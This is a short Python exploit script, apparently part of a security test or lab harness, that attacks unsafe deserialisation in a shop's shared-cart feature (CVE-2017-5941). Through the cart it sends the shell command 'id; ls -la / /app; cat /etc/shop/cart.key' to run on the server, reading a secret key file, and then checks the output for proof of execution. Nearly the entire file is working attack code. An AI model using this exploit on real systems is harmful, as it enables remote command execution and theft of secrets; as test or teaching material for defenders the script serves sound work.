#!/usr/bin/python3 -B
"""Unsafe deserialisation: a shared cart carries a function, and it is called (CVE-2017-5941)."""

from attack import Attack

KEY = "/etc/shop/cart.key"


def run(attack: Attack) -> bool:
    said = attack.cart(f"id; ls -la / /app; cat {KEY}")
    return attack.prove("cart-0b93" in said and "uid=33" in said, said=said)


Attack("T1190, T1059.007", ["edge", "cart"], [KEY]).main(run)
